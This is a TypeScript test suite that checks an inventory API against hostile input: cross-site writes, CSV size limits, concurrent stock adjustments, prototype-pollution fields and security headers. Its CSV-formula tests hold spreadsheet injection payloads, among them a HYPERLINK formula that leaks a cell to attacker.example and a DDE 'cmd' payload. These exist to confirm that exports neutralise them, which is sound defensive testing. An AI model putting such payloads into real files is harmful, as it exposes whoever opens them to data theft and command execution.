import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ApiServer, StartApiServer } from './api-contract.js'

/** The most rows one import takes (README: "CSV import"). */
const IMPORT_ROW_LIMIT = 10_000
/** The most units of one item, for adjustments and imports alike. */
const QUANTITY_LIMIT = 1_000_000_000

/**
 * What an attacker or an unlucky network can send, run against any server: no such request
 * changes data, and every answer says what was wrong.
 */
export function describeHostileInputContract(name: string, start: StartApiServer): void {
  describe(`${name}: hostile input`, () => {
    let server: ApiServer
    beforeAll(async () => {
      server = await start({})
    })
    afterAll(() => server?.close())

    const send = async (method: string, path: string, init: { body?: BodyInit; headers?: Record<string, string> }) => {
      const response = await fetch(server.url + path, { method, ...init })
      const text = await response.text()
      const type = response.headers.get('content-type') ?? ''
      return {
        status: response.status,
        headers: response.headers,
        text,
        body: type.startsWith('application/json') ? JSON.parse(text) : text,
      }
    }
    const call = (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) =>
      send(method, path, {
        headers: { 'content-type': 'application/json', ...headers },
        ...(body !== undefined && { body: typeof body === 'string' ? body : JSON.stringify(body) }),
      })
    const create = async (item: Record<string, unknown>) => {
      const { status, body } = await call('POST', '/api/items', item)
      expect(status, JSON.stringify(body)).toBe(201)
      return body.item as { id: number; sku: string; name: string; quantity: number }
    }
    const skusLike = async (prefix: string) =>
      ((await call('GET', `/api/items?q=${encodeURIComponent(prefix)}`)).body.items as { sku: string }[])
        .map((item) => item.sku)
        .filter((sku) => sku.startsWith(prefix))
    const itemById = async (id: number) => (await call('GET', `/api/items/${id}`)).body

    describe('cross-site writes', () => {
      it('refuses a write whose body is not declared as JSON with 415, and stores nothing', async () => {
        const item = await create({ sku: 'CT-0', name: 'Target', quantity: 5 })
        const json = JSON.stringify({ sku: 'CT-1', name: 'Planted' })
        for (const [method, path, body, type] of [
          ['POST', '/api/items', json, 'text/plain'],
          ['POST', '/api/items', json, 'application/x-www-form-urlencoded'],
          ['POST', '/api/items', json, 'multipart/form-data; boundary=x'],
          ['POST', `/api/items/${item.id}/adjust`, JSON.stringify({ delta: -5, reason: 'x' }), 'text/plain'],
          ['PATCH', `/api/items/${item.id}`, JSON.stringify({ name: 'Renamed' }), 'text/plain;charset=UTF-8'],
          ['POST', '/api/import', JSON.stringify({ csv: 'sku,name\r\nCT-2,Planted\r\n' }), 'text/plain'],
        ] as const) {
          const answer = await send(method, path, { body, headers: { 'content-type': type } })
          expect(answer.status, `${method} ${path} as ${type}`).toBe(415)
          expect(answer.body.error.code).toBe('unsupported_media_type')
        }
        // A body with no type at all, as `fetch(url, { body: blob })` sends it.
        const untyped = await send('POST', '/api/items', { body: new Blob([json]) })
        expect(untyped.status).toBe(415)
        expect(await skusLike('CT-')).toEqual(['CT-0'])
        expect((await itemById(item.id)).item).toMatchObject({ name: 'Target', quantity: 5 })
      })

      it('refuses writes that a page on another site sends, with 403, and stores nothing', async () => {
        const item = await create({ sku: 'CS-0', name: 'Target', quantity: 5 })
        const foreign: Record<string, string>[] = [
          { origin: 'https://attacker.example' },
          { origin: 'null' },
          { origin: server.url.replace('127.0.0.1', 'localhost') },
          { 'sec-fetch-site': 'cross-site' },
          { origin: server.url, 'sec-fetch-site': 'cross-site' },
        ]
        for (const headers of foreign) {
          const label = JSON.stringify(headers)
          for (const [method, path, body] of [
            ['POST', '/api/items', { sku: 'CS-1', name: 'Planted' }],
            ['POST', `/api/items/${item.id}/adjust`, { delta: -5, reason: 'stolen' }],
            ['PATCH', `/api/items/${item.id}`, { name: 'Renamed' }],
            ['DELETE', `/api/items/${item.id}`, undefined],
            ['POST', '/api/import', { csv: 'sku,name\r\nCS-2,Planted\r\n' }],
          ] as const) {
            const answer = await call(method, path, body, headers)
            expect(answer.status, `${method} ${path} with ${label}`).toBe(403)
            expect(answer.body.error.code).toBe('forbidden')
          }
        }
        expect(await skusLike('CS-')).toEqual(['CS-0'])
        const after = await itemById(item.id)
        expect(after.item).toMatchObject({ name: 'Target', quantity: 5 })
        expect(after.movements).toHaveLength(1)
      })

      it('accepts writes from its own pages and from clients that send no Origin', async () => {
        const own = await call('POST', '/api/items', { sku: 'SO-1', name: 'Same origin' }, { origin: server.url })
        expect(own.status).toBe(201)
        const fetched = await call(
          'POST',
          '/api/items',
          { sku: 'SO-2', name: 'Same origin, fetch metadata' },
          { origin: server.url, 'sec-fetch-site': 'same-origin' },
        )
        expect(fetched.status).toBe(201)
        const script = await call('POST', '/api/items', { sku: 'SO-3', name: 'No origin' })
        expect(script.status).toBe(201)
        expect((await skusLike('SO-')).sort()).toEqual(['SO-1', 'SO-2', 'SO-3'])
      })
    })

    describe('CSV formulas', () => {
      const formulas = [
        '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        '-2+3',
        '@SUM(1+1)',
        '\t=1+1',
        '\r=1+1',
      ]

      it('exports cells a spreadsheet would evaluate behind an apostrophe, and imports them back as they were', async () => {
        const created = []
        for (const [index, formula] of formulas.entries()) {
          created.push(await create({ sku: `FX-${index}`, name: formula, category: formula, location: 'Shelf' }))
        }
        const plain = await create({ sku: 'FX-P', name: "'quoted' as typed", category: "'=1+1", location: "''" })
        expect(created.map((item) => item.name)).toEqual(formulas)

        const exported = (await call('GET', '/api/export')).body as string
        const lines = exported.split('\r\n').filter((line) => line.startsWith('FX-') || line.startsWith('"FX-'))
        for (const cell of lines.flatMap((line) => splitCells(line))) {
          expect(cell, `exported cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
        }
        const hyperlink = `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"`
        expect(lines[0]).toBe(`FX-0,${hyperlink},0,Shelf,${hyperlink},0,0`)

        const imported = await call('POST', '/api/import', { csv: exported })
        expect(imported.status, JSON.stringify(imported.body)).toBe(200)
        for (const item of created) {
          const { item: after } = await itemById(item.id)
          expect([after.name, after.category]).toEqual([item.name, item.name])
        }
        expect((await itemById(plain.id)).item).toMatchObject({
          name: "'quoted' as typed",
          category: "'=1+1",
          location: "''",
        })
      })

      it('keeps a leading tab on import instead of trimming it into a formula', async () => {
        const csv = 'sku,name,category\r\nFT-1,"\t=1+1",Tools\r\n'
        const imported = await call('POST', '/api/import', { csv })
        expect(imported.status, JSON.stringify(imported.body)).toBe(200)
        const [item] = (await call('GET', '/api/items?q=FT-1')).body.items
        expect(item.name).toBe('\t=1+1')
        const exported = (await call('GET', '/api/export')).body as string
        expect(exported).toContain(`FT-1,'\t=1+1,0,,Tools,0,0`)
      })
    })

    describe('large imports', () => {
      const csvOf = (rows: number, prefix: string) =>
        `sku,name\r\n${Array.from({ length: rows }, (_, index) => `${prefix}${index},n\r\n`).join('')}`

      it(`refuses more than ${IMPORT_ROW_LIMIT} rows with 413 naming the limit, and stores nothing`, async () => {
        const csv = csvOf(IMPORT_ROW_LIMIT + 1, 'BIG')
        for (const path of ['/api/import/preview', '/api/import']) {
          const answer = await call('POST', path, { csv })
          expect(answer.status, path).toBe(413)
          expect(answer.body.error.code).toBe('payload_too_large')
          expect(answer.body.error.message).toContain('10,000 rows')
          expect(answer.body.error.fields).toEqual({ csv: `at most ${IMPORT_ROW_LIMIT} rows` })
        }
        expect(await skusLike('BIG')).toEqual([])
      })

      it(`previews ${IMPORT_ROW_LIMIT} rows in an answer smaller than the file, then imports them all`, async () => {
        const csv = csvOf(IMPORT_ROW_LIMIT, 'MAX')
        const preview = await call('POST', '/api/import/preview', { csv })
        expect(preview.status).toBe(200)
        expect(preview.body).toMatchObject({ create_count: IMPORT_ROW_LIMIT, update_count: 0, error_count: 0 })
        expect(preview.text.length).toBeLessThan(csv.length)

        const invalid = csvOf(IMPORT_ROW_LIMIT, '').replaceAll(',n\r\n', ',\r\n')
        const refused = await call('POST', '/api/import', { csv: invalid })
        expect(refused.status).toBe(400)
        expect(refused.body.error.message).toContain(`${IMPORT_ROW_LIMIT} of ${IMPORT_ROW_LIMIT} rows`)
        expect(refused.text.length).toBeLessThan(invalid.length)

        const applied = await call('POST', '/api/import', { csv })
        expect(applied.status, JSON.stringify(applied.body)).toBe(200)
        expect(applied.body).toEqual({ created: IMPORT_ROW_LIMIT, updated: 0 })
        const { body } = await call('GET', '/api/items?q=MAX9999')
        expect(body.items.map((item: { sku: string }) => item.sku)).toEqual(['MAX9999'])
      })
    })

    describe('concurrent adjustments', () => {
      it('answers each of 50 concurrent adjustments with the movement and quantity it wrote', async () => {
        const item = await create({ sku: 'CC-1', name: 'Busy item', quantity: 0 })
        const answers = await Promise.all(
          Array.from({ length: 50 }, (_, index) =>
            call('POST', `/api/items/${item.id}/adjust`, { delta: index + 1, reason: `delivery ${index + 1}` }),
          ),
        )
        for (const [index, answer] of answers.entries()) {
          expect(answer.status).toBe(200)
          expect(answer.body.movement).toMatchObject({
            item_id: item.id,
            delta: index + 1,
            reason: `delivery ${index + 1}`,
          })
          expect(answer.body.item.quantity).toBe(answer.body.movement.quantity_after)
        }
        const total = (50 * 51) / 2
        const after = await itemById(item.id)
        expect(after.item.quantity).toBe(total)
        // Each answer's movement is the one stored with that id, and the history adds up.
        const stored = new Map(after.movements.map((movement: { id: number }) => [movement.id, movement]))
        for (const answer of answers) expect(stored.get(answer.body.movement.id)).toMatchObject(answer.body.movement)
        const afters = answers.map((answer) => answer.body.movement.quantity_after).sort((a, b) => a - b)
        expect(afters.at(-1)).toBe(total)
        expect(new Set(afters).size).toBe(50)
      })

      it('states the stock there really is when it refuses a sale', async () => {
        const item = await create({ sku: 'CC-2', name: 'Popular item', quantity: 30 })
        const answers = await Promise.all(
          Array.from({ length: 40 }, () => call('POST', `/api/items/${item.id}/adjust`, { delta: -1, reason: 'sale' })),
        )
        const refused = answers.filter((answer) => answer.status === 409)
        expect(answers.filter((answer) => answer.status === 200)).toHaveLength(30)
        expect(refused).toHaveLength(10)
        for (const answer of refused) expect(answer.body.error.fields).toEqual({ delta: 'only 0 in stock' })
        expect((await itemById(item.id)).item.quantity).toBe(0)
      })
    })

    describe('limits and odd field names', () => {
      it('refuses an adjustment above the quantity an import accepts, so an export always imports again', async () => {
        const item = await create({ sku: 'QL-1', name: 'Nearly full', quantity: QUANTITY_LIMIT - 5 })
        const over = await call('POST', `/api/items/${item.id}/adjust`, { delta: 10, reason: 'delivery' })
        expect(over.status).toBe(409)
        expect(over.body.error.fields).toEqual({ delta: 'at most 5 more: an item holds at most 1,000,000,000' })
        expect((await itemById(item.id)).item.quantity).toBe(QUANTITY_LIMIT - 5)
        const full = await call('POST', `/api/items/${item.id}/adjust`, { delta: 5, reason: 'delivery' })
        expect(full.body.item.quantity).toBe(QUANTITY_LIMIT)

        const [header, ...lines] = ((await call('GET', '/api/export')).body as string).split('\r\n')
        const exported = [header, ...lines.filter((line) => line.startsWith('QL-1,'))].join('\r\n')
        expect(exported).toContain(`QL-1,Nearly full,${QUANTITY_LIMIT},`)
        const preview = await call('POST', '/api/import/preview', { csv: exported })
        expect(preview.body).toMatchObject({ update_count: 1, error_count: 0 })
      })

      it('names unknown fields called __proto__ and constructor', async () => {
        const body = '{"sku":"PR-1","name":"x","__proto__":{"admin":true},"constructor":"y"}'
        const created = await call('POST', '/api/items', body)
        expect(created.status).toBe(400)
        expect(created.body.error.message).toBe('invalid __proto__, constructor')
        expect(Object.keys(created.body.error.fields).sort()).toEqual(['__proto__', 'constructor'])
        expect(created.body.error.fields.constructor).toBe('unknown field')

        const listed = await call('GET', '/api/items?__proto__=1&toString=2')
        expect(listed.status).toBe(400)
        expect(listed.body.error.message).toBe('invalid __proto__, toString')
        expect(await skusLike('PR-')).toEqual([])
      })
    })

    describe('security headers', () => {
      it('sends a Content-Security-Policy and frame protection with the page, and nosniff with everything', async () => {
        const page = await send('GET', '/', {})
        expect(page.status).toBe(200)
        const policy = page.headers.get('content-security-policy') ?? ''
        expect(policy).toContain("default-src 'self'")
        expect(policy).toContain("frame-ancestors 'none'")
        expect(policy).toContain("object-src 'none'")
        expect(page.headers.get('x-frame-options')).toBe('DENY')
        expect(page.headers.get('x-content-type-options')).toBe('nosniff')

        const script = /<script[^>]+src="([^"]+)"/.exec(page.text)?.[1] as string
        const answers = await Promise.all([
          send('GET', script, {}),
          send('GET', '/service-worker.js', {}),
          send('GET', '/api/health', {}),
          send('GET', '/api/export', {}),
          send('GET', '/api/nothing-here', {}),
          call('POST', '/api/items', '{'),
        ])
        for (const answer of answers) expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      })
    })
  })
}

/** The cells of one CSV line (no line breaks inside cells). */
function splitCells(line: string): string[] {
  const cells: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < line.length; index++) {
    const char = line[index]
    if (quoted && char === '"' && line[index + 1] === '"') {
      cell += '"'
      index++
    } else if (char === '"') {
      quoted = !quoted
    } else if (char === ',' && !quoted) {
      cells.push(cell)
      cell = ''
    } else {
      cell += char
    }
  }
  return [...cells, cell]
}
